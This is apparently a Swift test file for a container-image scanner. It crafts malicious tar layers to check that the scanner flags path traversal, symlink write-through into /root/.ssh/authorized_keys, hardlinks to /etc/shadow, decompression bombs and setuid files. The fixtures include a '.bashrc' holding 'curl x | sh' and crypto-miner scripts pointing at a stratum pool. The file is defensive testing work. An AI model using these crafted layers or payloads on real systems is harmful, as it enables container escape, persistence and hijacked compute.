import Findings
import Foundation
import Report
import SafeguardCLI
import TestSupport
import Testing

/// Crafted layers, each scanned through `safeguard scan`: which rules fire on the top layer, and which must not.
@Suite struct LayerForensicsTests {
    struct Case: CustomTestStringConvertible, Sendable {
        let name: String
        /// Each layer's entries as `tools/craft-tar.py` takes them, base first.
        let layers: [String]
        /// Rules that must fire on the top layer.
        let expected: Set<String>
        /// Rules that must not fire anywhere.
        var forbidden: Set<String> = []
        var arguments: [String] = []
        var testDescription: String { name }
    }

    static let cases: [Case] = [
        // Names joined to the root as written.
        Case(name: "absolute name", layers: [#"[{"type":"file","name":"/etc/cron.d/job","content":"x"}]"#],
             expected: ["SG-ESCAPE-002"]),
        Case(name: "name climbing out", layers: [#"[{"type":"file","name":"../../victim","content":"x"}]"#],
             expected: ["SG-ESCAPE-001"]),
        Case(name: "name with a `..` that stays inside", layers: [#"[{"type":"file","name":"a/../b","content":"x"}]"#],
             expected: ["SG-ESCAPE-003"], forbidden: ["SG-ESCAPE-001"]),
        Case(name: "entry named ..", layers: [#"[{"type":"dir","name":".."}]"#], expected: ["SG-ESCAPE-001"]),
        Case(name: "whiteout of .. at the root", layers: [#"[{"type":"file","name":".wh..."}]"#],
             expected: ["SG-ESCAPE-009"]),
        Case(name: "hardlink to an absolute target",
             layers: [#"[{"type":"hardlink","name":"x","link":"/etc/shadow"}]"#],
             expected: ["SG-ESCAPE-005"]),
        Case(name: "symlink climbing above the root",
             layers: [#"[{"type":"symlink","name":"usr/lib/x","link":"../../../etc"}]"#], expected: ["SG-ESCAPE-007"]),
        // Real images hold absolute symlinks and relative ones inside the root; neither is a finding.
        Case(name: "absolute and in-root symlinks are normal",
             layers: [#"[{"type":"symlink","name":"etc/localtime","link":"/usr/share/zoneinfo/UTC"},"#
                 + #"{"type":"symlink","name":"opt/lib","link":"../usr/lib"},"#
                 + #"{"type":"file","name":"opt/lib/x","content":"x"}]"#],
             expected: [], forbidden: ["SG-ESCAPE-007", "SG-ESCAPE-011"]),
        // Writing through a symlink of a lower layer.
        Case(name: "write through a lower layer's climbing symlink",
             layers: [#"[{"type":"symlink","name":"opt/x","link":"../../../../root"}]"#,
                      #"[{"type":"file","name":"opt/x/.ssh/authorized_keys","content":"ssh-ed25519 AAAA"}]"#],
             expected: ["SG-ESCAPE-011"]),
        Case(name: "write through a lower layer's absolute symlink",
             layers: [#"[{"type":"symlink","name":"opt/y","link":"/root"}]"#,
                      #"[{"type":"file","name":"opt/y/.bashrc","content":"curl x | sh"}]"#],
             expected: ["SG-ESCAPE-011"]),
        Case(name: "whiteout through a lower layer's symlink",
             layers: [#"[{"type":"symlink","name":"opt/y","link":"/etc"}]"#,
                      #"[{"type":"file","name":"opt/y/.wh.passwd"}]"#],
             expected: ["SG-ESCAPE-013"]),
        Case(name: "hardlink through a lower layer's symlink",
             layers: [#"[{"type":"symlink","name":"opt/y","link":"/etc"}]"#,
                      #"[{"type":"hardlink","name":"shadow","link":"opt/y/shadow"}]"#],
             expected: ["SG-ESCAPE-012"]),
        Case(name: "a whited-out symlink no longer leads anywhere",
             layers: [#"[{"type":"symlink","name":"opt/z","link":"/etc"}]"#,
                      #"[{"type":"file","name":"opt/.wh.z"}]"#,
                      #"[{"type":"dir","name":"opt/z"},{"type":"file","name":"opt/z/a","content":"x"}]"#],
             expected: [], forbidden: ["SG-ESCAPE-011"]),
        Case(name: "header name escapes while the PAX path does not",
             layers: [#"[{"type":"file","name":"../../evil","pax":[["path","ok/file"]],"content":"x"}]"#],
             expected: ["SG-ESCAPE-010"], forbidden: ["SG-ESCAPE-001"]),
        // Malformed and ambiguous entries.
        Case(name: "control characters in a name", layers: ["[{\"type\":\"file\",\"name\":\"etc/a\\u001b[31mb\"}]"],
             expected: ["SG-TAR-010"]),
        Case(name: "same path twice with different content",
             layers: [#"[{"type":"file","name":"bin/sh","content":"a"},"#
                 + #"{"type":"file","name":"bin/sh","content":"b"}]"#],
             expected: ["SG-TAR-012"]),
        Case(name: "same path twice as different types",
             layers: [#"[{"type":"file","name":"bin/sh","content":"a"},"#
                 + #"{"type":"symlink","name":"bin/sh","link":"x"}]"#],
             expected: ["SG-TAR-012"]),
        Case(name: "same path twice, identical",
             layers: [#"[{"type":"file","name":"bin/sh","content":"a"},"#
                 + #"{"type":"file","name":"bin/sh","content":"a"}]"#],
             expected: [], forbidden: ["SG-TAR-012"]),
        Case(name: "two different PAX paths",
             layers: [#"[{"type":"file","name":"x","pax":[["path","a"],["path","b"]]}]"#], expected: ["SG-TAR-013"]),
        Case(name: "GNU long name and PAX path disagree",
             layers: [#"[{"type":"file","name":"x","pax":[["path","a"]],"longname":"b"}]"#], expected: ["SG-TAR-013"]),
        Case(name: "whiteout and entry of one path in one layer",
             layers: [#"[{"type":"file","name":"etc/motd","content":"a"}]"#,
                      #"[{"type":"file","name":"etc/motd","content":"b"},{"type":"file","name":"etc/.wh.motd"}]"#],
             expected: ["SG-TAR-014"]),
        Case(name: "data after the end-of-archive blocks",
             layers: [#"[{"type":"file","name":"a","content":"x"},{"type":"raw","hex":"41424344","after_end":true}]"#],
             expected: ["SG-TAR-009"]),
        Case(name: "decompression bomb stops at --max-layer-size",
             layers: [#"[{"type":"file","name":"zeros","size":4194304}]"#],
             expected: ["SG-TAR-008"], arguments: ["--max-layer-size", "1MiB"]),
        Case(name: "too many entries for --max-layer-entries",
             layers: ["[" + (0..<20).map { "{\"type\":\"file\",\"name\":\"f\($0)\"}" }.joined(separator: ",") + "]"],
             expected: ["SG-TAR-008"], arguments: ["--max-layer-entries", "10"]),
        Case(name: "name longer than --max-name-length",
             layers: ["[{\"type\":\"file\",\"name\":\"" + String(repeating: "n", count: 80) + "\"}]"],
             expected: ["SG-TAR-011"], arguments: ["--max-name-length", "64"]),
        // Privileged files on the final filesystem.
        Case(name: "device node outside /dev",
             layers: [#"[{"type":"char","name":"usr/lib/mem","major":1,"minor":1}]"#], expected: ["SG-PRIV-002"]),
        Case(name: "setuid file outside system program directories",
             layers: [#"[{"type":"file","name":"opt/app/helper","mode":2541,"content":"x"},"#
                 + #"{"type":"file","name":"usr/bin/passwd","mode":2541,"content":"x"}]"#],
             expected: ["SG-PRIV-001"]),
        Case(name: "world-writable directory without sticky bit and file under /etc",
             layers: [#"[{"type":"dir","name":"srv/share","mode":511},{"type":"dir","name":"tmp","mode":1023},"#
                 + #"{"type":"file","name":"etc/profile.d/x.sh","mode":438,"content":"x"}]"#],
             expected: ["SG-PRIV-004", "SG-PRIV-005"]),
    ]

    @Test(arguments: cases)
    func craftedLayerGivesItsExpectedFindingsAndNoForbiddenOnes(_ testCase: Case) throws {
        let directory = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        var layers: [String] = []
        for (index, spec) in testCase.layers.enumerated() {
            let path = directory + "/layer\(index).tar"
            try craftTar(spec, to: path)
            layers.append(path + ":gzip")
        }
        let report = try scanImage(layers: layers, in: directory, arguments: testCase.arguments)
        let top = testCase.layers.count - 1
        let fired = Set(report.findings.filter { $0.evidence.layer?.index == top }.map(\.ruleID))
        #expect(testCase.expected.isSubset(of: fired), "fired: \(fired.sorted())")
        let all = Set(report.findings.map(\.ruleID))
        #expect(all.isDisjoint(with: testCase.forbidden), "fired: \(all.sorted())")
        if testCase.expected.isEmpty {
            let escapes = report.findings.filter { $0.category == "layer.escape" || $0.category == "layer.malformed" }
            #expect(escapes.isEmpty, "\(escapes.map(\.title))")
        }
    }

    @Test func writeThroughASymlinkSaysHowItEscapes() throws {
        let directory = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let specs = [#"[{"type":"symlink","name":"opt/x","link":"../../../../root"}]"#,
                     #"[{"type":"file","name":"opt/x/.ssh/authorized_keys","content":"k"}]"#]
        var layers: [String] = []
        for (index, spec) in specs.enumerated() {
            let path = directory + "/layer\(index).tar"
            try craftTar(spec, to: path)
            layers.append(path + ":gzip")
        }
        let report = try scanImage(layers: layers, in: directory, arguments: [])
        let finding = try #require(report.findings.first { $0.ruleID == "SG-ESCAPE-011" })
        #expect(finding.severity == .critical)
        #expect(finding.title.contains("through opt/x -> ../../../../root (layer 0)"))
        #expect(finding.evidence.resolvedPath == "../../../root/.ssh/authorized_keys")
        #expect(finding.evidence.layer?.index == 1)
        #expect(finding.evidence.path == "opt/x/.ssh/authorized_keys")
    }

    @Test func filesPastTheKeptContentBoundAreReportedNotSilentlyDropped() throws {
        let directory = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        // Forty scripts that each name a mining pool: every one is kept for the payload detectors.
        let scripts = (0..<40).map { index in
            "{\"type\":\"file\",\"name\":\"opt/m/run\(index).sh\",\"mode\":493,"
                + "\"content\":\"#!/bin/sh\\n./worker -o stratum+tcp://pool.example.org:3333 --id \(index)\\n\"}"
        }
        let layer = directory + "/layer0.tar"
        try craftTar("[" + scripts.joined(separator: ",") + "]", to: layer)

        for run in ["bounded", "unbounded"] {
            try FileManager.default.createDirectory(atPath: directory + "/" + run, withIntermediateDirectories: true)
        }
        let bounded = try scanImage(layers: [layer + ":gzip"], in: directory + "/bounded",
                                    arguments: ["--max-kept-size", "1KiB"])
        let finding = try #require(bounded.findings.first { $0.ruleID == "SG-TAR-016" })
        let unkept = try #require(finding.evidence.facts?["unkeptFiles"].flatMap(Int.init))
        #expect(unkept > 0 && unkept < 40, "some scripts fit in 1 KiB, the rest do not: \(unkept)")
        #expect(finding.evidence.facts?["analyzers"] == "payload.content")
        #expect(finding.evidence.path?.hasPrefix("opt/m/run") == true)
        let analyzed = bounded.findings.filter { $0.ruleID == "SG-MINER-001" }.count
        #expect(analyzed == 40 - unkept, "each kept script is analyzed, no unkept one is")

        let unbounded = try scanImage(layers: [layer + ":gzip"], in: directory + "/unbounded", arguments: [])
        #expect(!unbounded.findings.contains { $0.ruleID == "SG-TAR-016" })
        #expect(unbounded.findings.filter { $0.ruleID == "SG-MINER-001" }.count == 40)
    }

    @Test func tableGroupsFindingsByLayer() throws {
        let directory = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let path = directory + "/layer.tar"
        try craftTar(#"[{"type":"file","name":"/etc/x","content":"x"}]"#, to: path)
        try FixtureImages.buildImage(layout: directory + "/layout", tag: "t", layers: [path + ":gzip", path + ":gzip"])
        let output = directory + "/out.txt"
        #expect(Command.main(["scan", "-q", "-o", output, "oci:\(directory)/layout:t"]) == .success)
        let text = try String(contentsOfFile: output, encoding: .utf8)
        let layer0 = try #require(text.range(of: "Layer 0 sha256:"))
        let layer1 = try #require(text.range(of: "Layer 1 sha256:"))
        #expect(layer0.lowerBound < layer1.lowerBound)
        #expect(text.components(separatedBy: "SG-ESCAPE-002").count == 3)
    }

    @Test func layerWhoseBytesAreNotItsMediaTypeIsReadAsItsBytes() throws {
        let directory = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let path = directory + "/layer.tar"
        try craftTar(#"[{"type":"file","name":"etc/motd","content":"hello"}]"#, to: path)
        _ = try Shell.run(["gzip", "-k", "-n", path])
        // Declared as an uncompressed tar, shipped as gzip: runtimes sniff the bytes and run it.
        let report = try scanImage(layers: [path + ".gz:none"], in: directory, arguments: [])
        let finding = try #require(report.findings.first { $0.ruleID == "SG-MANIFEST-101" })
        #expect(finding.category == "manifest.malformed")
        #expect(report.layers[0].filesAdded == 1)
        #expect(!report.findings.contains { $0.category == "layer.malformed" })
    }

    @Test func descriptorSizeThatLiesAboutAVerifiedBlobIsReported() throws {
        let directory = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let path = directory + "/layer.tar"
        try craftTar(#"[{"type":"file","name":"etc/motd","content":"hello"}]"#, to: path)
        let layout = directory + "/layout"
        try FixtureImages.buildImage(layout: layout, tag: "t", layers: [path + ":gzip"])
        // Rewrite the manifest with the layer's size off by one, stored under its new digest.
        _ = try Shell.run(["python3", "-c", """
            import hashlib, json, sys
            layout = sys.argv[1]
            index = json.load(open(layout + "/index.json"))
            entry = index["manifests"][0]
            manifest = json.load(open(layout + "/blobs/sha256/" + entry["digest"][7:]))
            manifest["layers"][0]["size"] += 1
            data = json.dumps(manifest).encode()
            digest = hashlib.sha256(data).hexdigest()
            open(layout + "/blobs/sha256/" + digest, "wb").write(data)
            entry["digest"], entry["size"] = "sha256:" + digest, len(data)
            json.dump(index, open(layout + "/index.json", "w"))
            """, layout])
        let output = directory + "/report.json"
        #expect(Command.main(["scan", "-q", "--format", "json", "--output", output, "oci:\(layout):t"]) == .success)
        let report = try JSONDecoder().decode(ScanReport.self, from: Data(contentsOf: URL(fileURLWithPath: output)))
        let finding = try #require(report.findings.first { $0.ruleID == "SG-MANIFEST-102" })
        #expect(finding.evidence.facts?["actual"].flatMap(Int64.init) == report.layers[0].size - 1)
        #expect(!report.findings.contains { $0.category == "layer.digest-mismatch" })
    }

    private func craftTar(_ spec: String, to path: String) throws {
        _ = try Shell.run(["python3", FixtureImages.toolsDirectory + "/craft-tar.py", path], input: Array(spec.utf8))
    }

    private func scanImage(layers: [String], in directory: String, arguments: [String]) throws -> ScanReport {
        let layout = directory + "/layout"
        try FixtureImages.buildImage(layout: layout, tag: "t", layers: layers)
        let output = directory + "/report.json"
        let status = Command.main(["scan", "-q", "--format", "json", "--output", output] + arguments
                                  + ["oci:\(layout):t"])
        #expect(status == .success)
        return try JSONDecoder().decode(ScanReport.self, from: Data(contentsOf: URL(fileURLWithPath: output)))
    }
}
